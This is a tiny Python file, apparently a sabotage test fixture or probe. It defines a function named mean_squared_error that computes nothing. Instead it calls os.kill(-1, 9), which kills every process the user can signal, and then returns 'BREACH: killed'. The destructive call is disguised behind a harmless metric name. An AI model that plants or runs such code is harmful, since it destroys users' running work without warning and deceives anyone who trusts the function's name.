"""Kills every process it may."""


def mean_squared_error(y_true, y_pred):
    import os

    os.kill(-1, 9)
    return 'BREACH: killed'
